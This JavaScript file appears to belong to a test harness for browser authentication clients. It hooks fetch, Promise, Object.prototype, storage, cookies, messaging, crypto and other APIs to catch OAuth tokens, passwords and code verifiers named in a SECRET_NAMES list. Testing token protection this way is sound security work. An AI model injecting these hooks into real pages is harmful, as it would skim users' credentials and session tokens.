// The attacks that lie in wait: each replaces functions that a client may call, and listens. `hooks` is the table of them.

const hooks = {
  "T5 fetch"(attack) {
    listenTo(globalThis, "fetch", attack);
  },
  "T5 XMLHttpRequest"(attack) {
    const { prototype } = XMLHttpRequest;
    for (const name of ["open", "send", "setRequestHeader"]) listenTo(prototype, name, attack);
    for (const name of ["response", "responseText"]) listenToAccessor(prototype, name, attack);
  },
  "T5 Request, Response and Headers"(attack) {
    for (const name of ["Request", "Response", "Headers"]) listenTo(globalThis, name, attack);
    for (const name of ["set", "append", "get"]) listenTo(Headers.prototype, name, attack);
    for (const owner of [Request.prototype, Response.prototype]) {
      for (const name of ["json", "text", "arrayBuffer", "blob", "bytes", "clone"]) listenTo(owner, name, attack);
      listenToAccessor(owner, "headers", attack);
      listenToAccessor(owner, "url", attack);
    }
  },
  "T5 sendBeacon, WebSocket and EventSource"(attack) {
    listenTo(Navigator.prototype, "sendBeacon", attack);
    for (const name of ["WebSocket", "EventSource"]) listenTo(globalThis, name, attack);
    listenTo(WebSocket.prototype, "send", attack);
  },
  "T6 Promise.prototype"(attack) {
    const listening = (args) => {
      for (let at = 0; at < args.length; at++) {
        const real = args[at];
        if (typeof real !== "function") continue;
        args[at] = function (value) {
          report(attack, value);
          return apply(real, this, [value]);
        };
      }
      return args;
    };
    for (const name of ["then", "catch", "finally"])
      listenTo(Promise.prototype, name, attack, { answer: false, change: listening });
    for (const name of ["resolve", "all", "race", "any"]) listenTo(Promise, name, attack, { answer: false });
  },
  "T6 Promise constructor"(attack) {
    // With `await`, it decides whether a promise is one of this realm's own; if not, its `then` is called.
    const { constructor } = Promise.prototype;
    replace(Promise.prototype, "constructor", {
      configurable: true,
      get() {
        if (busy || !(this instanceof RealPromise)) return constructor;
        // `then` itself asks for the constructor.
        busy = true;
        apply(realThen, this, [(value) => report(attack, value), () => {}]);
        busy = false;
        return constructor;
      },
    });
  },
  "T8 Object.prototype.then"(attack) {
    replace(Object.prototype, "then", {
      configurable: true,
      get() {
        if (!busy && typeof this === "object") report(attack, this);
        return undefined;
      },
      set(value) {
        defineProperty(this, "then", { value, writable: true, enumerable: true, configurable: true });
      },
    });
  },
  "T9 setters on Object.prototype"(attack) {
    for (const name of SECRET_NAMES) {
      replace(Object.prototype, name, {
        configurable: true,
        get: () => undefined,
        set(value) {
          report(attack, value);
          defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
        },
      });
    }
  },
  "T9 getters on Object.prototype"(attack) {
    for (const name of ASKED_NAMES) {
      replace(Object.prototype, name, {
        configurable: true,
        get() {
          if (!busy && typeof this === "object") report(attack, this);
          return undefined;
        },
        set(value) {
          defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
        },
      });
    }
  },
  "T9 JSON"(attack) {
    for (const name of ["parse", "stringify"]) listenTo(JSON, name, attack);
  },
  "T9 Reflect and Function.prototype"(attack) {
    for (const name of ["apply", "construct", "get", "set", "defineProperty"])
      listenTo(Reflect, name, attack, { answer: false });
    for (const name of ["call", "apply", "bind"]) listenTo(Function.prototype, name, attack, { answer: false });
  },
  "T9 Array and iterators"(attack) {
    const names = [
      "push",
      "map",
      "filter",
      "join",
      "concat",
      "find",
      "forEach",
      "includes",
      "slice",
      "reduce",
      "some",
      Symbol.iterator,
    ];
    for (const name of names) listenTo(Array.prototype, name, attack, { self: true, answer: false });
    listenTo(Array, "from", attack);
    listenTo(getPrototypeOf([][Symbol.iterator]()), "next", attack);
  },
  "T9 Object, Map and Set"(attack) {
    for (const name of [
      "assign",
      "entries",
      "values",
      "keys",
      "fromEntries",
      "create",
      "freeze",
      "defineProperty",
      "hasOwn",
    ]) {
      listenTo(Object, name, attack);
    }
    for (const owner of [Map.prototype, WeakMap.prototype])
      for (const name of ["get", "set"]) listenTo(owner, name, attack);
    for (const owner of [Set.prototype, WeakSet.prototype]) listenTo(owner, "add", attack);
  },
  "T9 String and RegExp"(attack) {
    for (const name of [
      "split",
      "slice",
      "substring",
      "replace",
      "replaceAll",
      "concat",
      "trim",
      "startsWith",
      "match",
      "padEnd",
    ]) {
      listenTo(String.prototype, name, attack, { self: true });
    }
    for (const name of ["exec", "test"]) listenTo(RegExp.prototype, name, attack);
    for (const name of ["atob", "btoa", "encodeURIComponent", "decodeURIComponent", "structuredClone"]) {
      listenTo(globalThis, name, attack);
    }
  },
  "T9 URL, URLSearchParams, FormData and Blob"(attack) {
    for (const name of ["URL", "URLSearchParams", "FormData", "Blob"]) listenTo(globalThis, name, attack);
    for (const owner of [URLSearchParams.prototype, FormData.prototype]) {
      for (const name of ["get", "set", "append", "toString"]) listenTo(owner, name, attack);
    }
    for (const name of ["text", "arrayBuffer"]) listenTo(Blob.prototype, name, attack);
  },
  "T7 TextDecoder and typed arrays"(attack) {
    listenTo(TextDecoder.prototype, "decode", attack);
    for (const name of ["encode", "encodeInto"]) listenTo(TextEncoder.prototype, name, attack);
    const typed = getPrototypeOf(Uint8Array.prototype);
    for (const name of ["set", "subarray", "slice", "fill"]) listenTo(typed, name, attack, { self: true });
    for (const name of ["Uint8Array", "DataView"]) listenTo(globalThis, name, attack);
  },
  "T9 streams"(attack) {
    listenTo(ReadableStreamDefaultReader.prototype, "read", attack);
    for (const name of ["getReader", "tee", "pipeTo", "pipeThrough"]) listenTo(ReadableStream.prototype, name, attack);
    for (const name of ["enqueue"]) listenTo(ReadableStreamDefaultController.prototype, name, attack);
  },
  "T9 storage methods"(attack) {
    for (const name of ["setItem", "getItem"]) listenTo(Storage.prototype, name, attack);
    listenToAccessor(Document.prototype, "cookie", attack);
    for (const name of ["put", "add"]) listenTo(IDBObjectStore.prototype, name, attack);
    listenToAccessor(IDBRequest.prototype, "result", attack);
    listenToAccessor(IDBCursorWithValue.prototype, "value", attack);
    if (globalThis.CookieStore) for (const name of ["get", "set"]) listenTo(CookieStore.prototype, name, attack);
  },
  "T11 MessageEvent.data"(attack) {
    listenToAccessor(MessageEvent.prototype, "data", attack);
  },
  "T11 postMessage"(attack) {
    const owners = [MessagePort.prototype, Worker.prototype, BroadcastChannel.prototype, globalThis];
    for (const owner of owners) listenTo(owner, "postMessage", attack);
  },
  "T11 addEventListener and onmessage"(attack) {
    listenTo(EventTarget.prototype, "addEventListener", attack, {
      answer: false,
      change(args, that) {
        if (/^(message|storage|fetch)/.test(args[0]))
          apply(realAdd, that ?? globalThis, [args[0], (event) => report(attack, event)]);
        return args;
      },
    });
    for (const owner of [MessagePort.prototype, Worker.prototype, BroadcastChannel.prototype, globalThis]) {
      const found = getOwnPropertyDescriptor(owner, "onmessage");
      if (!found?.set) continue;
      replace(owner, "onmessage", {
        ...found,
        set(listener) {
          apply(realAdd, this ?? globalThis, ["message", (event) => report(attack, event)]);
          apply(found.set, this, [listener]);
        },
      });
    }
  },
  "T12 crypto"(attack) {
    const { prototype } = SubtleCrypto;
    for (const name of ownKeys(prototype)) {
      if (typeof name === "string" && name !== "constructor") listenTo(prototype, name, attack);
    }
    for (const name of ["getRandomValues", "randomUUID"]) listenTo(Crypto.prototype, name, attack);
  },
  "T14 WebAssembly"(attack) {
    for (const name of ["instantiate", "instantiateStreaming"]) {
      const found = getOwnPropertyDescriptor(WebAssembly, name);
      replace(WebAssembly, name, {
        ...found,
        value(...args) {
          const result = apply(found.value, this, args);
          apply(realThen, result, [(made) => keep((made.instance ?? made).exports), () => {}]);
          return result;
        },
      });
    }
    const { Instance } = WebAssembly;
    replace(WebAssembly, "Instance", {
      configurable: true,
      writable: true,
      value: new Proxy(Instance, {
        construct(real, args) {
          const made = Reflect.construct(real, args);
          keep(made.exports);
          return made;
        },
      }),
    });
    function keep(exports) {
      for (const value of Object.values(exports)) {
        if (value instanceof WebAssembly.Memory) memories[memories.length] = { attack, memory: value };
      }
    }
  },
  "T15 Worker constructor, listening"(attack) {
    const found = getOwnPropertyDescriptor(globalThis, "Worker");
    replace(globalThis, "Worker", {
      ...found,
      value: new Proxy(found.value, {
        construct(real, args, target) {
          const worker = Reflect.construct(real, args, target);
          apply(realAdd, worker, ["message", (event) => report(attack, event)]);
          return worker;
        },
      }),
    });
  },
  "T23 BroadcastChannel, storage and message events"(attack) {
    const hear = (event) => {
      report(attack, event);
      report(attack, [event.newValue, event.oldValue]);
    };
    apply(realAdd, globalThis, ["message", hear]);
    const RealChannel = BroadcastChannel;
    const names = new RealSet(["authsafe", "oidc-client", "auth0", "oidc-spa"]);
    const listen = (name) => apply(realAdd, new RealChannel(name), ["message", hear]);
    names.forEach(listen);
    replace(globalThis, "BroadcastChannel", {
      configurable: true,
      writable: true,
      value: new Proxy(RealChannel, {
        construct(real, args, target) {
          if (!names.has(args[0])) (names.add(args[0]), listen(args[0]));
          return Reflect.construct(real, args, target);
        },
      }),
    });
    // What one document writes, the others of its origin are told; a frame is another document.
    whenBody(() => {
      const frame = document.createElement("iframe");
      frame.src = `${given.page}/theft/blank.html`;
      frame.hidden = true;
      frame.onload = () => apply(realAdd, frame.contentWindow, ["storage", hear]);
      document.body.append(frame);
    });
  },
  "T24 navigation"(attack) {
    report(attack, [location.href, document.referrer]);
    for (const name of ["pushState", "replaceState"]) listenTo(History.prototype, name, attack);
    listenTo(globalThis, "open", attack);
    if (globalThis.navigation) {
      apply(realAdd, navigation, ["navigate", (event) => report(attack, event.destination.url)]);
    }
    for (const name of ["src", "href", "action"]) {
      for (const owner of [HTMLIFrameElement, HTMLAnchorElement, HTMLFormElement])
        listenToAccessor(owner.prototype, name, attack);
    }
  },
  "T44 console and errors"(attack) {
    for (const name of ["error", "warn", "info", "debug", "log", "trace"]) listenTo(console, name, attack);
    apply(realAdd, globalThis, ["error", (event) => report(attack, [event.message, event.error])]);
    apply(realAdd, globalThis, ["unhandledrejection", (event) => report(attack, event.reason)]);
  },
};

const SECRET_NAMES = [
  "access_token",
  "refresh_token",
  "id_token",
  "accessToken",
  "refreshToken",
  "idToken",
  "token",
  "authorization",
  "Authorization",
  "code_verifier",
  "codeVerifier",
  "password",
];

/** What is asked of options of a request and of what a client keeps for one: who asks shows the object that lacks it. */
const ASKED_NAMES = [
  "body",
  "cache",
  "credentials",
  "csrf",
  "dpop",
  "duplex",
  "grant",
  "headers",
  "integrity",
  "keepalive",
  "method",
  "mode",
  "nonce",
  "priority",
  "proof",
  "proven",
  "redirect",
  "referrer",
  "referrerPolicy",
  "signal",
  "ticket",
  "url",
  "window",
];

function whenBody(work) {
  if (document.body) work();
  else apply(realAdd, document, ["DOMContentLoaded", work]);
}
